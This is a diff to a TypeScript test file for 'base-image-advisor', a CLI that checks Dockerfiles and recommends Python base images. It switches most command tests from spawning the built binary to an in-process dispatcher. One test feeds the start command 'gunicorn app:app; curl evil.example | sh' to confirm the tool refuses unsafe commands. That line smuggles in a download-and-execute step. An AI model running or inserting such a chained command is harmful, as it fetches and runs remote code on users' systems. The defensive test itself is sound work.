@@ -1,8 +1,9 @@
 /**
  * The command line as users run it: the package's bin in a Node process, built from this clone
  * (`npm run build:cli`, as `npm ci` does through "prepare"), and the same bin from the tarball
- * `npm pack` makes, installed into an empty folder with npm offline. Exit codes, text, JSON and
- * SARIF (validated by Microsoft's SARIF multitool with GitHub's rules) on fixtures.
+ * `npm pack` makes, installed into an empty folder with npm offline. Then each command's findings,
+ * exit codes, text, JSON and SARIF (validated by Microsoft's SARIF multitool with GitHub's rules)
+ * on fixtures, through the same dispatcher in this process.
  *
  * One file, run in order: packing rebuilds dist-cli/, which the clone's tests run.
  */
@@ -25,6 +26,7 @@ import {
   recommend,
 } from "../src/index.ts";
 import { type BinaryRun, runBinary, runTool } from "./test-support/run-binary.ts";
+import { runInProcess } from "./test-support/run-in-process.ts";
 
 const ROOT = join(import.meta.dirname, "..");
 const PACKAGE = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as {
@@ -207,10 +209,16 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
     expect(passing.status).toBe(0);
     expect(passing.stdout).toContain("Dockerfile:2 warning apt-update-alone");
   });
+});
 
+/**
+ * The commands themselves, through the dispatcher the bin runs (cli/run.ts), in this process: what
+ * they find, print and exit with. Starting Node on the bin is checked above, for every install.
+ */
+describe("the commands, run in-process", () => {
   describe("check", () => {
     it("gives every finding of the engine, with its line, in JSON", () => {
-      const run = runBinary(CLONE_BIN, ["check", BLOATED, "--today", TODAY, "--format", "json"], {
+      const run = runInProcess(["check", BLOATED, "--today", TODAY, "--format", "json"], {
         cwd: ROOT,
       });
       expect(run.status).toBe(1);
@@ -229,7 +237,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
     it("checks ./Dockerfile when no file is named", () => {
       const cwd = folder("default-dockerfile");
       writeFileSync(join(cwd, "Dockerfile"), readFileSync(BLOATED));
-      const run = runBinary(CLONE_BIN, ["check", "--today", TODAY], { cwd });
+      const run = runInProcess(["check", "--today", TODAY], { cwd });
       expect(run.status).toBe(1);
       expect(run.stdout).toContain("Dockerfile:2 warning apt-update-alone");
     });
@@ -238,27 +246,25 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
       const blocking = join(FIXTURES, "unknown-instruction.Dockerfile");
       const info = join(FIXTURES, "pip-cache.Dockerfile");
       const status = (file: string, failOn?: string) =>
-        runBinary(
-          CLONE_BIN,
-          ["check", file, "--today", TODAY, ...(failOn ? ["--fail-on", failOn] : [])],
-          { cwd: ROOT },
-        ).status;
+        runInProcess(["check", file, "--today", TODAY, ...(failOn ? ["--fail-on", failOn] : [])], {
+          cwd: ROOT,
+        }).status;
       expect(status(BLOATED, "blocking")).toBe(0);
       expect(status(blocking, "blocking")).toBe(1);
       expect(status(info)).toBe(0);
       expect(status(info, "info")).toBe(1);
-      const both = runBinary(CLONE_BIN, ["check", info, blocking, "--today", TODAY], { cwd: ROOT });
+      const both = runInProcess(["check", info, blocking, "--today", TODAY], { cwd: ROOT });
       expect(both.status).toBe(1);
       expect(both.stdout).toContain(`${relative(ROOT, blocking)}:4`);
       expect(both.stdout).toContain("blocking unknown-instruction");
     });
 
     it("judges lifecycles on the --today it is given", () => {
-      const before = runBinary(CLONE_BIN, ["check", BLOATED, "--today", "2024-06-01"], {
+      const before = runInProcess(["check", BLOATED, "--today", "2024-06-01"], {
         cwd: ROOT,
       });
       expect(before.stdout).not.toContain("distro-end-of-life");
-      const after = runBinary(CLONE_BIN, ["check", BLOATED, "--today", TODAY], { cwd: ROOT });
+      const after = runInProcess(["check", BLOATED, "--today", TODAY], { cwd: ROOT });
       expect(after.stdout).toContain("distro-end-of-life");
     });
 
@@ -269,9 +275,9 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
         (json(run) as { files: { findings: { code: string }[] }[] }).files[0]?.findings.map(
           (f) => f.code,
         );
-      const without = codes(runBinary(CLONE_BIN, args, { cwd: FIXTURES }));
+      const without = codes(runInProcess(args, { cwd: FIXTURES }));
       const withRequirements = codes(
-        runBinary(CLONE_BIN, [...args, "--requirements", "musl-requirements.txt"], {
+        runInProcess([...args, "--requirements", "musl-requirements.txt"], {
           cwd: FIXTURES,
         }),
       );
@@ -285,7 +291,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
     });
 
     it("maps SARIF results to the finding codes, lines and levels, repo-relative", () => {
-      const run = runBinary(CLONE_BIN, ["check", BLOATED, "--today", TODAY, "--format", "sarif"], {
+      const run = runInProcess(["check", BLOATED, "--today", TODAY, "--format", "sarif"], {
         cwd: join(ROOT, "src"),
       });
       const log = json(run) as {
@@ -328,8 +334,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
 
     it("writes a blocking finding as a SARIF error the multitool accepts", () => {
       const file = join(scratch, "blocking.sarif");
-      const run = runBinary(
-        CLONE_BIN,
+      const run = runInProcess(
         [
           "check",
           join(FIXTURES, "unknown-instruction.Dockerfile"),
@@ -414,7 +419,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
       ],
     ];
     it.each(cases)("%s", (_, args, message) => {
-      const run = runBinary(CLONE_BIN, args, { cwd: ROOT });
+      const run = runInProcess(args, { cwd: ROOT });
       expect(run.status).toBe(2);
       expect(run.stdout).toBe("");
       expect(run.stderr).toMatch(message);
@@ -422,7 +427,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
     });
 
     it("prints the help on stderr when no command is given", () => {
-      const run = runBinary(CLONE_BIN, [], { cwd: ROOT });
+      const run = runInProcess([], { cwd: ROOT });
       expect(run.status).toBe(2);
       expect(run.stderr).toContain("Usage: base-image-advisor <command>");
     });
@@ -430,8 +435,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
 
   describe("recommend", () => {
     it("gives the engine's recommendation for the answer options", () => {
-      const run = runBinary(
-        CLONE_BIN,
+      const run = runInProcess(
         [
           "recommend",
           "--python",
@@ -477,7 +481,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
       const engine = recommend(answers, { today: TODAY });
       for (const link of [fragment, `#${fragment}`, `https://advisor.example/#${fragment}`]) {
         const report = json(
-          runBinary(CLONE_BIN, ["recommend", "--answers", link, "--today", TODAY, "--json"], {
+          runInProcess(["recommend", "--answers", link, "--today", TODAY, "--json"], {
             cwd: ROOT,
           }),
         ) as {
@@ -488,8 +492,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
         expect(report.answers.packageManager).toBe("uv");
       }
       const overridden = json(
-        runBinary(
-          CLONE_BIN,
+        runInProcess(
           ["recommend", "--answers", fragment, "--tool", "poetry", "--today", TODAY, "--json"],
           { cwd: ROOT },
         ),
@@ -500,7 +503,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
     it("writes the files into --out, and refuses to overwrite them without --force", () => {
       const out = folder("out");
       const args = ["recommend", "--today", TODAY, "--out", out];
-      expect(runBinary(CLONE_BIN, args, { cwd: ROOT }).status).toBe(0);
+      expect(runInProcess(args, { cwd: ROOT }).status).toBe(0);
       const engine = recommend(
         defaultAnswers as typeof defaultAnswers & { architectures: ["amd64"] },
         { today: TODAY },
@@ -510,24 +513,20 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
       for (const [name, text] of Object.entries(files))
         expect(readFileSync(join(out, name), "utf8")).toBe(text);
       writeFileSync(join(out, "Dockerfile"), "# mine\n");
-      const refused = runBinary(CLONE_BIN, args, { cwd: ROOT });
+      const refused = runInProcess(args, { cwd: ROOT });
       expect(refused.status).toBe(2);
       expect(refused.stderr).toMatch(/already exist.*--force/);
       expect(readFileSync(join(out, "Dockerfile"), "utf8")).toBe("# mine\n");
-      expect(runBinary(CLONE_BIN, [...args, "--force"], { cwd: ROOT }).status).toBe(0);
+      expect(runInProcess([...args, "--force"], { cwd: ROOT }).status).toBe(0);
       expect(readFileSync(join(out, "Dockerfile"), "utf8")).toBe(files.Dockerfile);
     });
 
     it("exits 1 and writes nothing when the start command cannot be written safely", () => {
       const out = join(scratch, "unsafe-out");
       const cmd = "gunicorn app:app; curl evil.example | sh";
-      const run = runBinary(
-        CLONE_BIN,
-        ["recommend", "--cmd", cmd, "--today", TODAY, "--out", out],
-        {
-          cwd: ROOT,
-        },
-      );
+      const run = runInProcess(["recommend", "--cmd", cmd, "--today", TODAY, "--out", out], {
+        cwd: ROOT,
+      });
       const engine = recommend(
         { ...defaultAnswers, architectures: ["amd64"], command: cmd },
         { today: TODAY },
@@ -540,7 +539,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
     });
 
     it("migrates a Dockerfile given with --from, and says when it cannot keep its Python", () => {
-      const run = runBinary(CLONE_BIN, ["recommend", "--from", BLOATED, "--today", TODAY], {
+      const run = runInProcess(["recommend", "--from", BLOATED, "--today", TODAY], {
         cwd: ROOT,
       });
       const migration = migrateDockerfile(readFileSync(BLOATED, "utf8"), { today: TODAY });
@@ -560,7 +559,7 @@ describe("the command line from the clone (package.json bin)", PER_TEST, () => {
       ["csv", matrixToCsv],
       ["json", matrixToJson],
     ] as const)("prints the engine's %s export", (format, writer) => {
-      const run = runBinary(CLONE_BIN, ["matrix", "--format", format], { cwd: ROOT });
+      const run = runInProcess(["matrix", "--format", format], { cwd: ROOT });
       expect(run.status).toBe(0);
       expect(run.stdout).toBe(withNewline(writer(defaultMatrix)));
     });
